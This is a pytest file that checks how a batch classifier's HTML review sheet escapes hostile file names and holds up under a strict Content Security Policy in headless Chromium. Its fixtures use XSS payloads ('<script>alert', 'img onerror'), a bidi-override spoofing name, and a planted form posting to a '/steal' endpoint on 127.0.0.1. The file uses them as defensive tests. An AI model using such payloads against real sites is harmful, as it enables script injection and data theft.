"""The HTML review sheet: hand-made job folders of both layouts, the page's text and policy, and a real headless Chromium.

The keyboard station itself (200 items, reload, group accept, ``review apply``) and the 10,000-card sheet are
tested in tests/test_review_station.py; the browser and job-folder helpers both use are in tests/helpers.py.
"""

from __future__ import annotations

import base64
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from batchclf.jobs.folder import read_job
from batchclf.report.html import write_review_sheet
from batchclf.report.summary import summarise
from batchclf.scan.discovery import Candidate
from batchclf.scan.prepare import prepare
from batchclf.watch.journal import FileRecord, Journal
from tests.helpers import Browser, chromium_or_skip, drawn, ink_digit, item_of, items, other, review, write_job_folder

CLASSIFY_ID = "20261124T031502Z-3f9a"
DAY = "2026-11-25"
HOSTILE = "<script>alert(1)</script> \"q\" 'x'.png"
HOSTILE_REASON = "<img src=x onerror=alert(2)> not a recognised image format"
NEWLINE = "new\nline.png"
BIDI = "scan-17\u202egnp.fdp"  # shows as "scan-17pdf.png" unless the override is isolated or escaped
PAPER_BY_PAGE = (235, 195, 155)  # each TIFF page on its own paper grey, to tell which page a thumbnail shows


def newline_names_allowed(folder: Path) -> bool:
    try:
        (folder / NEWLINE).write_bytes(b"")
    except OSError:
        return False
    (folder / NEWLINE).unlink()
    return True


class Fixture:
    """Two jobs (a classify job and a daemon day) and what the sheet must show for them, in grid order."""

    def __init__(self, root: Path):
        self.root = root
        self.scans = root / "scans"
        self.scans.mkdir()
        jobs_dir = root / "jobs"
        digit = ink_digit()
        digit.save(self.scans / "digit.png")
        digit.save(self.scans / "ok.png")
        Image.new("L", (50, 50), 255).save(self.scans / "blank.png")
        (self.scans / HOSTILE).parent.mkdir()  # the "/" of "</script>" makes it a folder and a file in it
        drawn("7").save(self.scans / HOSTILE)
        (self.scans / "bad.png").write_bytes(b"not an image\n" * 10)
        pages = [drawn(digit, paper) for digit, paper in zip("135", PAPER_BY_PAGE)]
        pages[0].save(self.scans / "pages.tif", save_all=True, append_images=pages[1:])
        drawn("2", size=30).save(self.scans / "=small.png")  # formula-like name, tiny image
        drawn("1").save(self.scans / BIDI, "PNG")
        self.newline = newline_names_allowed(self.scans)
        rows = [
            review("digit.png"),
            other("ok.png", "ok"),
            other("blank.png", "blank"),
            review("gone.png"),  # deleted since the job ran
            other("pages.tif", "ok", page=1),
            review("pages.tif", page=2, label=3),
            review("pages.tif", page=3, label=5),
            review(HOSTILE, label=7),
            other("bad.png", "failed", page=None, error=HOSTILE_REASON),
            review("=small.png", label=2),
            review(BIDI, label=1),
            other("ok.png", "duplicate"),
        ]
        if self.newline:
            drawn("4").save(self.scans / NEWLINE)
            rows.append(review(NEWLINE, label=4))
        meta = {
            "kind": "classify",
            "job_id": CLASSIFY_ID,
            "started": "2026-11-24T03:15:02Z",
            "seconds": 2.5,
            "inputs": [str(self.scans)],
            "review_below": 0.6,
            "model": {"file": "/srv/models/default.keras", "sha256": "ab" * 32, "architecture": "cnn", "card_accuracy": 0.9962},
        }
        self.classify = write_job_folder(jobs_dir / CLASSIFY_ID, rows, meta)
        self.classify_items = [(row["file"], row["page"]) for row in rows if row["status"] in ("review", "failed")]

        inbox, processed, failed = root / "inbox", root / "processed", root / "failed"
        for folder in (inbox, processed, failed):
            folder.mkdir()
        drawn("9").save(inbox / "waiting.png")  # reported but not yet moved
        drawn("8").save(processed / "moved.png")
        (failed / "broken.png").write_bytes(b"\x89PNG truncated")
        journal = Journal(jobs_dir / "watch-journal.sqlite")
        journal.decide([], [
            FileRecord("moved.png", 1, 0, None, "review", DAY, None, "processed"),
            FileRecord("broken.png", 1, 0, None, "failed", DAY, None, "failed"),
        ])
        where = {"moved.png": processed / "moved.png", "broken.png": failed / "broken.png"}
        journal.mark_moved([(move.id, str(where[move.path])) for move in journal.pending_moves()])
        journal.close()
        day_rows = [review("waiting.png", label=9), review("moved.png", label=8), other("broken.png", "failed", None, "corrupt")]
        day_meta = {"kind": "watch", "inbox": str(inbox)}
        self.day = write_job_folder(jobs_dir / f"watch-{DAY}", day_rows + [other("fine.png", "ok")], day_meta)
        self.day_items = [(row["file"], row["page"]) for row in day_rows]

    def write(self, name: str = "review.html", which: tuple[str, ...] = ("classify", "day")) -> tuple[Path, int, list]:
        jobs = [read_job(getattr(self, attribute)) for attribute in which]
        summaries = [summarise(job) for job in jobs]
        path = self.root / name
        return path, write_review_sheet(path, jobs, summaries), summaries


@pytest.fixture(scope="module")
def fixture(tmp_path_factory) -> Fixture:
    return Fixture(tmp_path_factory.mktemp("sheet"))


@pytest.fixture(scope="module")
def sheet(fixture) -> tuple[Path, str, int, list]:
    path, items, summaries = fixture.write()
    return path, path.read_text(encoding="utf-8"), items, summaries


def data_uri_image(uri: str) -> Image.Image:
    assert uri.startswith("data:image/png;base64,")
    return Image.open(io.BytesIO(base64.b64decode(uri.split(",", 1)[1])))


def content_security_policy(html: str) -> dict[str, str]:
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html).group(1)
    return {part.split()[0]: " ".join(part.split()[1:]) for part in policy.split(";") if part.strip()}


def inline(html: str, tag: str) -> list[str]:
    """The text of every inline ``<tag>`` element that the browser runs or applies (JSON data blocks excluded)."""
    return re.findall(rf"<{tag}>(.*?)</{tag}>", html, re.S)


def sha256_source(text: str) -> str:
    import hashlib

    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode("utf-8")).digest()).decode("ascii") + "'"


# -- the page's contents ------------------------------------------------------------------------


def test_one_card_for_every_review_and_failed_row(fixture, sheet):
    _, html, shown, summaries = sheet
    expected = sum(s["counts"]["review"] + s["counts"]["failed"] for s in summaries)
    assert shown == expected == len(fixture.classify_items) + len(fixture.day_items)
    assert [(item["file"], item["page"]) for item in items(html)] == fixture.classify_items + fixture.day_items
    assert [item["status"] for item in items(html)].count("failed") == 2
    assert {item["job"] for item in items(html)} == {CLASSIFY_ID, f"watch-{DAY}"}


def test_file_names_and_reasons_are_escaped(sheet):
    _, html, _, _ = sheet
    assert "<script>alert" not in html and "<img src=x" not in html
    assert len(inline(html, "script")) == 1  # the sheet's own script; the data blocks never run
    # In the data blocks, |tojson escapes < > & ' so no name can close the block.
    assert "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\\"q\\\" \\u0027x\\u0027.png" in html
    assert item_of(html, HOSTILE)["shown"] == HOSTILE
    assert item_of(html, "bad.png")["reason"] == HOSTILE_REASON


def test_bidi_and_control_characters_in_names_are_shown_escaped(fixture, sheet):
    """Issue 23 point 15: a right-to-left override cannot make scan-17<RLO>gnp.fdp look like scan-17pdf.png."""
    _, html, _, _ = sheet
    assert "\u202e" not in html  # the raw override nowhere in the page (the JSON data has it as \u202e)
    item = item_of(html, BIDI)
    assert item["shown"] == "scan-17\\u202egnp.fdp"
    if fixture.newline:
        assert item_of(html, NEWLINE)["shown"] == "new\\x0aline.png"


def test_header_names_each_jobs_input_folder_and_zero_counts_are_not_red(fixture, sheet):
    _, html, _, _ = sheet
    rows = re.findall(r"<tr>\s*<td class=\"text id\">.*?</tr>", html, re.S)
    assert len(rows) == 2
    assert f"<bdi>{fixture.scans}</bdi>" in rows[0] and f"<bdi>{fixture.root / 'inbox'}</bdi>" in rows[1]
    # The classify job has failures (red), the daemon day too; a job without any must not be red.
    folder = write_job_folder(fixture.root / "20261126T020000Z-00bb", [review("digit.png")], {"kind": "classify", "inputs": [str(fixture.scans)]})
    job = read_job(folder)
    path = fixture.root / "zero.html"
    write_review_sheet(path, [job], [summarise(job)])
    zero = path.read_text(encoding="utf-8")
    assert '<td class="failed">0 <small>0.0%</small></td>' in zero
    assert '<td class="review some">1 <small>100.0%</small></td>' in zero
    assert 'td.failed.some {' in zero and "td.failed {" not in zero


def test_self_contained_under_a_strict_content_security_policy(sheet):
    """Issue 23 point 15: no 'unsafe-inline' script, no form target, no <base>; the sheet's own style and script by hash."""
    _, html, _, _ = sheet
    policy = content_security_policy(html)
    assert policy["default-src"] == "'none'" and policy["img-src"] == "data:"
    assert policy["form-action"] == "'none'" and policy["base-uri"] == "'none'"
    assert "unsafe" not in policy["script-src"] and "unsafe" not in policy["style-src"]
    (script,), (style,) = inline(html, "script"), inline(html, "style")
    assert policy["script-src"] == sha256_source(script) and policy["style-src"] == sha256_source(style)
    assert not re.search(r"""\s(src|href)=["'](?!data:)""", html)
    assert "<link" not in html and "@import" not in html and "url(" not in html
    assert " style=" not in html and " on" not in re.sub(r"<script>.*?</script>", "", html, flags=re.S).replace(" onerror=alert", "")


def test_gone_and_unreadable_images_are_placeholders(sheet):
    _, html, _, _ = sheet
    gone = item_of(html, "gone.png")
    assert gone["note"] == "missing" and gone["original"] is None and gone["seen"] is None
    assert item_of(html, "bad.png")["note"] == "unreadable: not a recognised image format"
    assert item_of(html, "broken.png")["note"].startswith("unreadable: ")


def test_daemon_inputs_are_found_in_the_inbox_and_where_the_journal_moved_them(sheet):
    _, html, _, _ = sheet
    for name in ("waiting.png", "moved.png"):
        item = item_of(html, name)
        assert item["original"].startswith("data:image/png") and item["seen"].startswith("data:image/png")


def test_the_28x28_is_what_prediction_saw(fixture, sheet):
    _, html, _, _ = sheet
    shown = np.asarray(data_uri_image(item_of(html, "digit.png")["seen"]))
    predicted = prepare(Candidate(fixture.scans, fixture.scans / "digit.png"))[0].image
    assert shown.shape == (28, 28) and np.array_equal(shown, predicted)


def test_a_multi_page_tiff_shows_the_rows_page(sheet):
    _, html, _, _ = sheet
    for page in (2, 3):
        original = data_uri_image(item_of(html, "pages.tif", page)["original"])
        assert max(original.size) <= 160
        assert abs(original.getpixel((2, 2)) - PAPER_BY_PAGE[page - 1]) <= 2


def test_a_changed_file_is_flagged_and_a_vanished_page_is_a_placeholder(tmp_path):
    scans = tmp_path / "scans"
    scans.mkdir()
    drawn("6").save(scans / "edited.png")
    rows = [{**review("edited.png"), "sha256": "0" * 64}, review("edited.png", page=4)]
    job = read_job(write_job_folder(tmp_path / "jobs" / CLASSIFY_ID, rows, {"kind": "classify", "inputs": [str(scans)]}))  # HOME/jobs/JOB: its inputs are in its home
    path = tmp_path / "sheet.html"
    assert write_review_sheet(path, [job], [summarise(job)]) == 2
    changed, vanished = items(path.read_text(encoding="utf-8"))
    assert changed["changed"] is True and changed["original"].startswith("data:image/png")
    assert vanished["note"] == "page 4 is not in the file now"


def test_a_confidence_that_is_not_a_number_does_not_break_the_cards_data(fixture, tmp_path):
    rows = [review("digit.png", confidence=float("nan")), review("digit.png", page=2, confidence=float("inf"))]
    job = read_job(write_job_folder(tmp_path / CLASSIFY_ID, rows, {"kind": "classify", "inputs": [str(fixture.scans)]}))
    finite = read_job(write_job_folder(tmp_path / "finite" / CLASSIFY_ID, [review("digit.png"), review("digit.png", page=2)], job.meta))
    path = tmp_path / "nan.html"
    write_review_sheet(path, [job], [summarise(finite)])  # the summary of such a job is another matter (report/summary.py)
    blocks = re.findall(r'<script type="application/json" class="items" data-job="[^"]*">(.*?)</script>', path.read_text(encoding="utf-8"), re.S)

    def refuse(constant):
        raise ValueError(f"{constant} is not JSON")

    data = json.loads(blocks[0], parse_constant=refuse)  # what JSON.parse in the browser accepts
    assert [(item["conf"], item["confidence"]) for item in data] == [(None, None), (None, None)]


def test_nothing_to_review(fixture, tmp_path):
    folder = write_job_folder(tmp_path / "20261126T010000Z-00aa", [other("ok.png", "ok")], {"kind": "classify", "inputs": []})
    job = read_job(folder)
    path = tmp_path / "empty.html"
    assert write_review_sheet(path, [job], [summarise(job)]) == 0
    html = path.read_text(encoding="utf-8")
    assert "Nothing to review" in html and 'id="save"' not in html and not items(html)


def test_writing_a_sheet_imports_no_tensorflow(fixture):
    program = (
        "import sys\n"
        "from pathlib import Path\n"
        "from batchclf.jobs.folder import read_job\n"
        "from batchclf.report.html import write_review_sheet\n"
        "from batchclf.report.summary import summarise\n"
        "jobs = [read_job(Path(p)) for p in sys.argv[2:]]\n"
        "assert write_review_sheet(Path(sys.argv[1]), jobs, [summarise(j) for j in jobs]) > 0\n"
        "print(sorted(m for m in sys.modules if m.split('.')[0] in ('tensorflow', 'keras')))\n"
    )
    args = [str(fixture.root / "no-tf.html"), str(fixture.classify), str(fixture.day)]
    done = subprocess.run([sys.executable, "-c", program, *args], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "[]"


# -- in a real browser --------------------------------------------------------------------------


def test_in_headless_chromium(fixture, sheet, tmp_path):
    chromium_or_skip()
    from playwright.sync_api import sync_playwright

    path, _, shown, _ = sheet
    order = fixture.classify_items + fixture.day_items
    with sync_playwright() as playwright:
        browser = Browser(playwright)
        try:
            page = browser.page
            browser.open(path)
            assert page.locator("article.card").count() == shown  # fewer than a page: all drawn
            assert page.locator("article.card img.thumb").count() == 2 * (shown - 3)  # gone, bad, broken: placeholders
            names = page.locator("article.card .file bdi")
            assert names.nth(order.index((HOSTILE, 1))).text_content() == HOSTILE
            assert names.nth(order.index((BIDI, 1))).text_content() == "scan-17\\u202egnp.fdp"
            if fixture.newline:
                assert names.nth(order.index((NEWLINE, 1))).text_content() == "new\\x0aline.png"
            assert page.locator(".reason bdi").nth(order.index(("bad.png", None))).text_content() == HOSTILE_REASON
            assert page.locator("article.card.current").count() == 1
            assert page.locator("#progress").text_content() == f"Done 0 · to do {shown - 3}"
            if os.environ.get("BATCHCLF_ARTIFACTS"):  # a picture of the sheet for CI's artefacts
                artefacts = Path(os.environ["BATCHCLF_ARTIFACTS"])
                artefacts.mkdir(parents=True, exist_ok=True)
                screenshot = tmp_path / "review-sheet.png"
                page.screenshot(path=str(screenshot), full_page=True)
                shutil.copy(screenshot, artefacts / "test_report_html-review-sheet.png")
        finally:
            browser.close()
    assert not browser.problems, browser.problems
    assert not browser.requests, browser.requests


def test_an_escaping_bug_could_not_run_script_post_a_form_or_move_the_base(fixture, sheet, tmp_path):
    """Issue 23 point 15: what an injection would try, planted in a copy of the sheet; the policy stops every one."""
    chromium_or_skip()
    from playwright.sync_api import sync_playwright

    _, html, _, _ = sheet
    injected = (
        '<base href="http://127.0.0.1:9/">'
        "<script>window.injected = true;</script>"
        '<img src="x" onerror="window.injected = true">'
        '<form id="exfiltrate" action="http://127.0.0.1:9/steal" method="post"><input name="data" value="x"></form>'
    )
    path = tmp_path / "injected.html"
    path.write_text(html.replace("<header", injected + "<header", 1), encoding="utf-8")
    with sync_playwright() as playwright:
        browser = Browser(playwright)
        try:
            page = browser.page
            browser.open(path, station=False)  # whatever the sheet's own script does, the planted one must not run
            assert page.evaluate("window.injected === undefined")
            assert page.evaluate("document.baseURI") == path.as_uri()
            page.evaluate("document.getElementById('exfiltrate').submit()")  # as a planted script would, if it could run
            page.wait_for_timeout(300)
            assert page.url == path.as_uri()
        finally:
            browser.close()
    assert not browser.requests, browser.requests


def test_the_time_column_says_a_daemon_days_time_is_working_time(tmp_path):
    """report_version 2: a daemon day's ``seconds`` is its working time; the header and the cell say so, with the span."""
    from html.parser import HTMLParser

    stamps = ["2026-11-25T08:00:00.000Z", "2026-11-25T08:00:02.000Z", "2026-11-25T17:00:00.000Z"]  # 2 s, then a day's wait
    rows = [{**other(f"f{k}.png", "ok"), "processed_at": stamp} for k, stamp in enumerate(stamps)]
    day = read_job(write_job_folder(tmp_path / "jobs" / f"watch-{DAY}", rows, {"kind": "watch", "inbox": str(tmp_path)}))
    summary = summarise(day)
    assert (summary["seconds"], summary["wall_seconds"]) == (7.0, 32400.0)  # 2 s + the 5 s cap; 9 h first row to last
    path = tmp_path / "day.html"
    write_review_sheet(path, [day], [summary])

    class Cells(HTMLParser):
        def __init__(self):
            super().__init__()
            self.headers, self.cells, self._open = [], [], None

        def handle_starttag(self, tag, attrs):
            if tag in ("th", "td"):
                self._open = {"tag": tag, "title": dict(attrs).get("title") or "", "text": ""}

        def handle_data(self, data):
            if self._open is not None:
                self._open["text"] += data

        def handle_endtag(self, tag):
            if tag in ("th", "td") and self._open is not None:
                (self.headers if tag == "th" else self.cells).append(self._open)
                self._open = None

    table = Cells()
    table.feed(path.read_text(encoding="utf-8"))
    header = next(th for th in table.headers if "time" in th["text"].lower())
    assert header["text"] == "Working time"
    assert "daemon day's working time" in header["title"] and "5 s" in header["title"]
    (time,) = [td for td in table.cells if td["text"].startswith("7.0 s")]
    assert " ".join(time["text"].split()) == "7.0 s of work"
    assert "32,400.0 s from the first row to the last" in time["title"]


def test_report_html_reads_a_reviewed_jobs_verified_csv_once(tmp_path, monkeypatch):
    """A guard (this held before too): the sheet takes the person's counts from the summary's one pass (PersonTally)."""
    import builtins

    from tests.helpers import invoke

    folder = write_job_folder(tmp_path / "jobs" / CLASSIFY_ID, [review("a.png"), other("b.png", "ok")], {"kind": "classify", "job_id": CLASSIFY_ID, "inputs": []})
    decisions = tmp_path / "corrections.csv"
    decisions.write_text(f"file,page,label,decision,decided_at,job\r\na.png,1,4,corrected,2026-12-01T08:00:00.000Z,{CLASSIFY_ID}\r\n")
    assert invoke("review", "apply", folder, decisions).exit_code == 0
    real_open, opened = builtins.open, []

    def counting_open(file, *args, **kwargs):
        if isinstance(file, (str, Path)) and Path(file).name == "verified.csv":
            opened.append(Path(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", counting_open)
    result = invoke("report", folder, "--html", tmp_path / "sheet.html")
    assert result.exit_code == 0, result.output
    assert opened == [folder / "verified.csv"]
